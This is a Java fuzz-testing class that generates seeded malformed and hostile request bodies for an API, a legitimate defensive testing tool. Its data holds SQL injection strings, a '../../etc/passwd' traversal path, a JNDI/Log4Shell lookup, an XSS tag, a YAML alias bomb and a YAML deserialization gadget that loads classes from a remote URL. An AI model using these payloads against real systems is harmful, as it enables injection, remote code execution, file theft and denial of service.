package io.meshwork.testing.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;

/**
 * Malformed and hostile request parts, drawn from a seeded {@link Random} so a failure can be
 * replayed: broken and binary bodies, invalid UTF-8, deep nesting, huge values, wrong types for the
 * schema's own properties, YAML alias bombs and tags, HCL and GraphQL fragments, SQL and DDL in
 * identifiers, and path segments that try to climb or to break out.
 */
public final class HostileInputs {

  /** A body with the media type it is sent as (null: no Content-Type) and what it is. */
  public record Body(byte[] bytes, String mediaType, String kind) {}

  private static final String[] IDENTIFIERS = {
    "x\"; DROP TABLE t; --",
    "a'b",
    "Robert'); DROP SCHEMA public CASCADE;--",
    "pg_catalog",
    "a b",
    "..",
    "../../etc/passwd",
    "%00",
    "\u0000",
    "名前",
    "e\u0301",
    "x".repeat(300),
    "select",
    "$1",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "-1",
    "9999999999999999999999",
    "NaN",
    "null",
    "",
  };

  private static final String[] WRONG_MEDIA = {
    "text/plain", "application/xml", "application/octet-stream", "image/png", null
  };

  private final Random random;

  public HostileInputs(long seed) {
    this.random = new Random(seed);
  }

  public String identifier() {
    return IDENTIFIERS[random.nextInt(IDENTIFIERS.length)];
  }

  public Body body(ApiOperations.Operation operation) {
    String declared = operation.mediaTypes().get(random.nextInt(operation.mediaTypes().size()));
    String media =
        random.nextInt(6) == 0 ? WRONG_MEDIA[random.nextInt(WRONG_MEDIA.length)] : declared;
    int kind = random.nextInt(13);
    return switch (kind) {
      case 0 -> new Body(randomBytes(random.nextInt(2000)), media, "random bytes");
      case 1 -> new Body(invalidUtf8(operation.properties()), media, "invalid UTF-8");
      case 2 -> new Body(nested(), media, "deep nesting");
      case 3 ->
          new Body(
              ("{\"name\":\"" + "a".repeat(random.nextInt(20) == 0 ? 3_000_000 : 70_000) + "\"}")
                  .getBytes(StandardCharsets.UTF_8),
              media,
              "huge value");
      case 4, 5, 6 -> new Body(wrongTypes(operation.properties()), media, "wrong types");
      case 7 -> new Body(yamlBomb(), media, "YAML aliases and tags");
      case 8 ->
          new Body(
              ("policy \"x\" {\n rule \"" + identifier() + "\" {\n expr = \"${" + identifier())
                  .getBytes(StandardCharsets.UTF_8),
              media,
              "broken HCL");
      case 9 ->
          new Body(
              "{\"query\":\"{ a { b { c { d { e { f { g { h } } } } } } } }\"}"
                  .getBytes(StandardCharsets.UTF_8),
              media,
              "GraphQL in the wrong place");
      case 10 ->
          new Body(
              ("{\"schema\":\"{\\\"type\\\":\\\"record\\\",\\\"name\\\":\\\""
                      + identifier().replace("\"", "")
                      + "\\\",\\\"fields\\\":[{\\\"name\\\":1}]}\",\"schemaType\":\""
                      + identifier().replace("\"", "")
                      + "\"}")
                  .getBytes(StandardCharsets.UTF_8),
              media,
              "broken schema");
      case 11 ->
          new Body(
              ("{\"schemaType\":\"PROTOBUF\",\"schema\":\"syntax = \\\"proto3\\\";\\n"
                      + "message M { ".repeat(random.nextInt(3) == 0 ? 3000 : 2)
                      + identifier().replaceAll("[\"\\\\]", "")
                      + " = 1;\\nimport \\\"x.proto\\\";\",\"references\":[{\"name\":\""
                      + identifier().replaceAll("[\"\\\\]", "")
                      + "\"}]}")
                  .getBytes(StandardCharsets.UTF_8),
              media,
              "broken .proto");
      default -> new Body(numbers(operation.properties()), media, "extreme numbers");
    };
  }

  private byte[] randomBytes(int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return bytes;
  }

  private byte[] invalidUtf8(Set<String> properties) {
    byte[] head = ("{\"" + property(properties) + "\":\"").getBytes(StandardCharsets.UTF_8);
    byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0};
    byte[] tail = "\"}".getBytes(StandardCharsets.UTF_8);
    byte[] all = new byte[head.length + bad.length + tail.length];
    System.arraycopy(head, 0, all, 0, head.length);
    System.arraycopy(bad, 0, all, head.length, bad.length);
    System.arraycopy(tail, 0, all, head.length + bad.length, tail.length);
    return all;
  }

  private byte[] nested() {
    int depth = new int[] {200, 2_000, 20_000, 200_000}[random.nextInt(4)];
    boolean objects = random.nextBoolean();
    StringBuilder text = new StringBuilder(depth * 6);
    for (int i = 0; i < depth; i++) {
      text.append(objects ? "{\"a\":" : "[");
    }
    text.append("1");
    for (int i = 0; i < depth; i++) {
      text.append(objects ? "}" : "]");
    }
    return text.toString().getBytes(StandardCharsets.UTF_8);
  }

  private byte[] wrongTypes(Set<String> properties) {
    List<String> members = new ArrayList<>();
    int count = 1 + random.nextInt(Math.max(1, properties.size() + 1));
    for (int i = 0; i < count; i++) {
      members.add("\"" + property(properties) + "\":" + value(0));
    }
    return ("{" + String.join(",", members) + "}").getBytes(StandardCharsets.UTF_8);
  }

  private String value(int depth) {
    return switch (random.nextInt(depth > 2 ? 6 : 8)) {
      case 0 -> "null";
      case 1 -> "true";
      case 2 -> Long.toString(random.nextLong());
      case 3 ->
          "\""
              + identifier()
                  .replace("\\", "\\\\")
                  .replace("\"", "\\\"")
                  .replace("\u0000", "\\u0000")
              + "\"";
      case 4 -> "1.5e308";
      case 5 -> "\"\"";
      case 6 -> "[" + value(depth + 1) + "," + value(depth + 1) + "]";
      default ->
          "{\"" + identifier().replace("\"", "").replace("\\", "") + "\":" + value(depth + 1) + "}";
    };
  }

  private byte[] yamlBomb() {
    String text =
        random.nextBoolean()
            ? "a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n"
                + "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
                + "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
                + "f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
                + "g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
            : "product: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://x/\"]]]]\nname: a\nname: b\n\t- broken";
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private byte[] numbers(Set<String> properties) {
    String[] values = {"1e999999", "-0", "123456789012345678901234567890", "0x10", "NaN", "-1"};
    return ("{\"" + property(properties) + "\":" + values[random.nextInt(values.length)] + "}")
        .getBytes(StandardCharsets.UTF_8);
  }

  private String property(Set<String> properties) {
    if (properties.isEmpty() || random.nextInt(5) == 0) {
      return identifier().replace("\"", "").replace("\\", "").replace("\u0000", "");
    }
    int index = random.nextInt(properties.size());
    return properties.stream().skip(index).findFirst().orElseThrow();
  }
}
